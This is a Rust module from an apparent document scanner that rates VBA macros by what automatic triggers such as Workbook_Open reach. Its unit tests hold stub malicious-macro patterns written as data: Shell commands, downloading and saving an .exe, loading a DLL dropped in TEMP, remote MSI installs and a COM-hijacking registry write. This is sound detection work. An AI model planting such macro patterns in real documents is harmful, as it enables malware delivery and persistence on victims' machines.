//! Macros: what starts by itself and what it would do.
//!
//! Office asks once whether content may be enabled, and then everything that starts by itself has started. So the
//! question is not which words a macro contains but what a trigger reaches. Only writing files, talking to a database
//! or fetching a page is what honest workbooks do too: that is worth a question to the sender. Starting a program,
//! fetching a program, injecting code, writing macros, weakening Office or hiding the name of an object is not.

use crate::detections::Detection;
use crate::finding::{Evidence, FindingKind, Level, Observation};
use crate::languages::vba::{is_data_file, is_passing};
use crate::languages::{Action, ActionKind, Behaviour, Language, Place, Trigger};
use crate::order;
use crate::story;
use crate::view::{Reads, View};

pub(crate) const PRESENT: FindingKind = FindingKind::new("vba.present", Level::Notice, Some("M1"));
pub(crate) const AUTO_RUN: FindingKind = FindingKind::new("vba.auto-run", Level::Hold, Some("M2"));
pub(crate) const AUTO_RUN_ACTS: FindingKind = FindingKind::new("vba.auto-run-acts", Level::Stop, Some("M3"));
pub(crate) const ACTS: FindingKind = FindingKind::new("vba.acts", Level::Hold, Some("M3"));

/// The evaluator gave up; the judgement rests on what can be reached, so it asks for nothing by itself.
pub(crate) const NOT_FOLLOWED: FindingKind = FindingKind::new("vba.not-followed", Level::None, None);

/// What no action told of: addresses that are put together later, kept in a list, asked by some other object.
const ADDRESSES: FindingKind = FindingKind::new("vba.addresses", Level::None, None);

pub(super) const DETECTION: Detection = Detection {
    kinds: &[&PRESENT, &AUTO_RUN, &AUTO_RUN_ACTS, &ACTS, &NOT_FOLLOWED, &ADDRESSES],
    reads: Reads::Macros,
    find,
};

fn find(view: &View<'_>, found: &mut Vec<Observation>) {
    let View::Macros(behaviour) = view else { return };
    if behaviour.language == Language::Xlm {
        return;
    }
    if behaviour.exhausted {
        let first = behaviour.triggers.first().map(|trigger| &trigger.place).or(behaviour.modules.first());
        found.extend(first.map(|place| Observation::new(&NOT_FOLLOWED, evidence(place))));
    }
    // Of many actions not all are shown.
    let shown = behaviour.actions.iter().filter(|action| action.detail.len() < 2048);
    let shown = shown.take(if behaviour.actions.len() > story::OF_ONE { 0 } else { story::OF_ONE });
    let told = |place: &&Place| shown.clone().any(|action| action.detail.contains(&place.excerpt));
    let untold = behaviour.addresses.iter().filter(|place| !told(place));
    found.extend(untold.map(|place| Observation::new(&ADDRESSES, evidence(place))));
    let gravest = grave(behaviour).max_by_key(|action| action.kind);
    if let Some(trigger) = gravest.and_then(|action| behaviour.triggers.get(action.reached_by?)) {
        let action = gravest.map_or("", |action| action.kind.id());
        let with = |place: &Place| {
            Observation::new(&AUTO_RUN_ACTS, evidence(place)).with("trigger", &trigger.name).with("action", action)
        };
        found.push(with(&trigger.place));
        let mut actions: Vec<&Action> = grave(behaviour).collect();
        order::sort_by_key(&mut actions, |action| std::cmp::Reverse(action.kind));
        found.extend(actions.iter().map(|action| with(&action.place)));
        found.extend(actions.first().and_then(|action| resolved(action)).map(|place| with(&place)));
    } else if behaviour.triggers.iter().any(|trigger| trigger.automatic) {
        // What starts when it is opened is said before what waits for the end.
        let mut starts: Vec<&Trigger> = behaviour.triggers.iter().filter(|trigger| trigger.automatic).collect();
        order::sort_by_key(&mut starts, |trigger| !trigger.name.to_lowercase().contains("open"));
        let name = starts.first().map_or("", |trigger| trigger.name.as_str());
        let with = |place: &Place| Observation::new(&AUTO_RUN, evidence(place)).with("trigger", name);
        found.extend(starts.iter().map(|trigger| with(&trigger.place)));
        // A button beside it, or an event that what starts waits for.
        acts(behaviour, found);
    } else if !acts(behaviour, found) {
        found.extend(behaviour.modules.iter().map(|place| Observation::new(&PRESENT, evidence(place))));
    }
}

/// Says what the macro does that no document should, whoever starts it; whether there is any.
fn acts(behaviour: &Behaviour, found: &mut Vec<Observation>) -> bool {
    let actions = || behaviour.actions.iter().filter(|action| action.kind.is_grave());
    let Some(gravest) = actions().max_by_key(|action| action.kind) else { return false };
    let with = |place: &Place| Observation::new(&ACTS, evidence(place)).with("action", gravest.kind.id());
    found.extend(actions().map(|action| with(&action.place)));
    found.extend(resolved(gravest).map(|place| with(&place)));
    true
}

/// Actions that no document should do when it is opened. Fetching counts beside a call site, reached too, that could
/// store or start what was fetched: not beside one that is known to store only data (a log, a table). Loading a library
/// counts if the macro itself put it there, or if it lies where only passing things do.
fn grave(behaviour: &Behaviour) -> impl Iterator<Item = &Action> {
    let reached = behaviour.actions.iter().filter(|action| action.reached_by.is_some());
    let stores = reached.clone().any(|action| match action.kind {
        ActionKind::Write => !is_data_file(&action.detail),
        // What macOS brings.
        ActionKind::Load if action.detail.starts_with("/usr/lib/") && action.detail.ends_with(".dylib") => false,
        kind => matches!(kind, ActionKind::Download | ActionKind::Load),
    });
    let puts: Vec<String> = reached
        .clone()
        .filter(|action| action.kind == ActionKind::Write)
        .filter_map(|action| file_name(&action.detail))
        .collect();
    // What waits for a person to do something must be grave by itself, and told.
    let by_itself = |action: &Action| {
        let trigger = action.reached_by.and_then(|trigger| behaviour.triggers.get(trigger));
        trigger.is_none_or(|trigger| trigger.automatic)
    };
    let trigger = |action: &Action| {
        let trigger = action.reached_by.and_then(|trigger| behaviour.triggers.get(trigger));
        trigger.map(|trigger| trigger.name.to_lowercase()).unwrap_or_default()
    };
    // Functions for cells and events of the application wait for a person as well, and are what libraries of code have:
    // one reads from the web through a file, one works on the code of whatever workbook is saved, one makes thunks.
    let is_of_library = move |action: &Action| {
        let name = trigger(action);
        let of_document = ["workbook_", "document_", "worksheet_"].iter().any(|object| name.starts_with(object));
        !by_itself(action) && name.contains(['=', '_']) && !of_document
    };
    reached.filter(move |action| match action.kind {
        ActionKind::Generate | ActionKind::Download | ActionKind::Inject if is_of_library(action) => false,
        ActionKind::Fetch | ActionKind::Load | ActionKind::Hidden if !by_itself(action) => false,
        ActionKind::Fetch => stores,
        ActionKind::Load => {
            is_passing(&action.detail) || file_name(&action.detail).is_some_and(|name| puts.contains(&name))
        }
        kind => kind.is_grave(),
    })
}

/// The name of a file without its folders, lower case, where all of it is known.
fn file_name(path: &str) -> Option<String> {
    let name = path.trim().rsplit(['\\', '/']).next().unwrap_or_default().to_lowercase();
    (name.contains('.') && !name.contains('…')).then_some(name)
}

/// What the call site is given, where its line does not say so: the text that concatenation and `Chr` hide.
fn resolved(action: &Action) -> Option<Place> {
    let told = action.detail.trim_matches(['…', ' ']);
    let shown = told.len() < 3 || action.place.excerpt.contains(told);
    (!shown).then(|| Place { excerpt: action.detail.clone(), ..action.place.clone() })
}

fn evidence(place: &Place) -> Evidence {
    Evidence::quote(&place.excerpt).path(place.path.as_str()).line(place.line)
}

#[cfg(test)]
mod ways;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::budget::{Budget, Limits};
    use crate::languages::surroundings::Surroundings;
    use crate::languages::vba::{Module, ModuleKind, Project, analyse};

    fn ids(kind: ModuleKind, source: &str) -> Vec<&'static str> {
        let module = Module { name: "M".into(), path: "VBA/M".into(), kind, source: source.into() };
        let budget = Budget::new(Limits::default(), |_| ());
        let project = Project { modules: vec![module], ..Project::default() };
        let (behaviour, result) = analyse(&project, &Surroundings::default(), &budget);
        result.unwrap();
        let mut found = Vec::new();
        find(&View::Macros(&behaviour), &mut found);
        let mut ids: Vec<_> = found.iter().map(|observation| observation.kind.id).collect();
        ids.dedup();
        ids
    }

    #[test]
    fn a_trigger_that_reaches_a_program_is_stop() {
        let source = "Sub Workbook_Open()\nGo\nEnd Sub\nSub Go()\nShell \"cmd /c x\", 0\nEnd Sub";
        assert_eq!(ids(ModuleKind::Document, source), ["vba.auto-run-acts"]);
        // Never called by Excel in a standard module.
        assert_eq!(ids(ModuleKind::Standard, source), ["vba.acts"]);
    }

    #[test]
    fn a_trigger_alone_is_hold_and_a_macro_alone_a_notice() {
        let source = "Sub AutoOpen()\n' Shell \"x\"\nMsgBox \"Shell x\"\nEnd Sub";
        assert_eq!(ids(ModuleKind::Standard, source), ["vba.auto-run"]);
        assert_eq!(ids(ModuleKind::Standard, "Sub Total()\nCall Sum\nEnd Sub\nSub Sum()\nEnd Sub"), ["vba.present"]);
    }

    #[test]
    fn what_a_button_does_is_told_beside_what_starts() {
        let menu = "Sub Auto_Open()\nRange(\"A1\").Select\nEnd Sub\nSub Button()\nShell \"cmd /c x\"\nEnd Sub";
        assert_eq!(ids(ModuleKind::Standard, menu), ["vba.auto-run", "vba.acts"]);
    }

    #[test]
    fn code_that_writes_code_is_stop_by_itself_and_hold_by_hand() {
        let code = "ThisDocument.VBProject.VBComponents(1).CodeModule.AddFromString t\nEnd Sub";
        assert_eq!(ids(ModuleKind::Standard, &format!("Sub AutoOpen()\n{code}")), ["vba.auto-run-acts"]);
        assert_eq!(ids(ModuleKind::Standard, &format!("Sub ImportAll()\n{code}")), ["vba.acts"]);
    }

    #[test]
    fn writing_and_fetching_are_hold_each_and_stop_together() {
        let write = "Open p For Binary As #1\n";
        let log = "Open ThisWorkbook.Path & \"\\\\log.txt\" For Append As #1\n".replace("\\\\", "\\");
        let fetch = "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://a.example/\"\nh.Send\n";
        let of = |body: &str| ids(ModuleKind::Standard, &format!("Sub Auto_Open()\n{body}End Sub"));
        assert_eq!(of(write), ["vba.auto-run"]);
        assert_eq!(of(fetch), ["vba.auto-run"]);
        assert_eq!(of(&format!("{fetch}{write}")), ["vba.auto-run-acts"]);
        let close = |library: &str| {
            let declare = format!("Declare PtrSafe Function pclose Lib \"{library}\" (ByVal f As LongPtr) As Long");
            ids(ModuleKind::Standard, &format!("{declare}\nSub Auto_Open()\n{fetch}pclose 0\nEnd Sub"))
        };
        assert_eq!(close("/usr/lib/libc.dylib"), ["vba.auto-run"]);
        assert_eq!(close("/tmp/libc.dylib"), ["vba.auto-run-acts"]);
        // A check for a new version that keeps a log, and a table that is stored.
        assert_eq!(of(&format!("{fetch}{log}")), ["vba.auto-run"]);
        let store = |name: &str| {
            format!(
                "{fetch}Set s = CreateObject(\"ADODB.Stream\")\ns.Open\ns.Write h.responseBody\ns.SaveToFile \"{name}\", 2\n"
            )
        };
        assert_eq!(of(&store("rates.csv")), ["vba.auto-run"]);
        assert_eq!(of(&store("rates.exe")), ["vba.auto-run-acts"]);
        assert_eq!(of(&format!("{}{write}", store("rates.csv"))), ["vba.auto-run-acts"]);
        assert_eq!(of(&format!("{}FileCopy \"rates.csv\", \"a.exe\"\n", store("rates.csv"))), ["vba.auto-run-acts"]);
        let many = "For i = 1 To 20\nn = i & \".txt\"\nIf i = 15 Then n = \"x.exe\"\nOpen n For Output As #1\nNext\n";
        assert_eq!(of(&format!("{fetch}{many}")), ["vba.auto-run-acts"]);
    }

    #[test]
    fn a_library_that_the_macro_puts_there_is_stop() {
        let declare = "Declare Function Go Lib \"C:\\ProgramData\\x.ocx\" () As Long\n\
                       Declare Function LoadLibrary Lib \"kernel32\" Alias \"LoadLibraryA\" (ByVal p As String) As Long\n";
        let of = |body: &str| ids(ModuleKind::Standard, &format!("{declare}Sub Auto_Open()\n{body}\nEnd Sub"));
        assert_eq!(
            of("FileCopy ThisWorkbook.Path & \"\\x.dat\", \"C:\\ProgramData\\x.ocx\"\nGo"),
            ["vba.auto-run-acts"]
        );
        let dropped = "Open Environ(\"TEMP\") & \"\\x.dll\" For Binary As 1\nPut 1, , b\nClose 1\n";
        assert_eq!(of(&format!("{dropped}LoadLibrary Environ(\"TEMP\") & \"\\x.dll\"")), ["vba.auto-run-acts"]);
        assert_eq!(of("Application.RegisterXLL Environ(\"TEMP\") & \"\\x.xll\""), ["vba.auto-run-acts"]);
        // A library of the company's own, and a log.
        assert_eq!(of("Go"), ["vba.auto-run"]);
        let log = "Open ThisWorkbook.Path & \"\\\" & n For Output As 1\n";
        assert_eq!(of(&format!("{log}LoadLibrary ThisWorkbook.Path & \"\\sqlite3.dll\"")), ["vba.auto-run"]);
        assert_eq!(of("Application.RegisterXLL ThisWorkbook.Path & \"\\tools.xll\""), ["vba.auto-run"]);
    }

    #[test]
    fn installing_and_taking_the_place_of_a_part_of_windows_is_stop() {
        let of = |body: &str| ids(ModuleKind::Standard, &format!("Sub Auto_Open()\n{body}\nEnd Sub"));
        let installer = "Set i = CreateObject(\"WindowsInstaller.Installer\")\ni.UILevel = 2\ni.InstallProduct ";
        assert_eq!(of(&format!("{installer}\"http://a.example/x.msi\"")), ["vba.auto-run-acts"]);
        let key = "HKCU\\Software\\Classes\\CLSID\\{42aedc87-2188-41fd-b9a3-0c966feabec1}\\InprocServer32\\";
        let write = format!("CreateObject(\"WScript.Shell\").RegWrite \"{key}\", \"C:\\x.dll\", \"REG_SZ\"");
        assert_eq!(of(&write), ["vba.auto-run-acts"]);
        assert_eq!(of(&write.replace(key, "HKCU\\Software\\Tool\\Colour")), ["vba.auto-run"]);
    }

    #[test]
    fn what_starts_first_is_named() {
        let source =
            "Sub Workbook_BeforeClose()\nEnd Sub\nSub Workbook_Activate()\nEnd Sub\nSub Workbook_Open()\nEnd Sub";
        let module = Module { name: "M".into(), path: "M".into(), kind: ModuleKind::Document, source: source.into() };
        let project = Project { modules: vec![module], ..Project::default() };
        let budget = Budget::new(Limits::default(), |_| ());
        let (behaviour, _) = analyse(&project, &Surroundings::default(), &budget);
        let mut found = Vec::new();
        find(&View::Macros(&behaviour), &mut found);
        assert_eq!(found.len(), 3);
        assert!(found.iter().all(|observation| observation.values["trigger"] == "Workbook_Open"));
        assert_eq!(found[0].evidence.line, Some(5));
    }

    #[test]
    fn addresses_that_no_action_tells() {
        let of = |body: &str| ids(ModuleKind::Standard, &format!("Sub Button()\n{body}\nEnd Sub"));
        assert_eq!(of("t = \"<a href='HTTPS://a.example/x'>\""), ["vba.addresses", "vba.present"]);
        assert_eq!(of("ask \"url=\", \"https://a.example/?q=\" & ActiveCell"), ["vba.addresses", "vba.present"]);
        let names = "t = \"xmlns=\"\"http://schemas.microsoft.com/office/2009/07/customui\"\"\"";
        assert_eq!(of(&format!("{names}\n' https://a.example/x\nt = \"file://x\"\nt = \"http://\"")), ["vba.present"]);
        // What an action tells is told there.
        assert_eq!(
            of("ThisWorkbook.FollowHyperlink \"https://a.example/x\"\nShell \"curl https://a.example/y\""),
            ["vba.acts"]
        );
    }

    #[test]
    fn a_limit_of_steps_is_told_and_asks_for_nothing() {
        let endless = "Sub AutoOpen()\nDo While True\nx = x + 1\nLoop\nEnd Sub";
        assert_eq!(ids(ModuleKind::Standard, endless), ["vba.not-followed", "vba.auto-run"]);
        assert_eq!(NOT_FOLLOWED.severity, Level::None);
        let counted = "Sub AutoOpen()\nFor i = 1 To 9\nx = x + 1\nNext\nEnd Sub";
        assert_eq!(ids(ModuleKind::Standard, counted), ["vba.auto-run"]);
    }
}
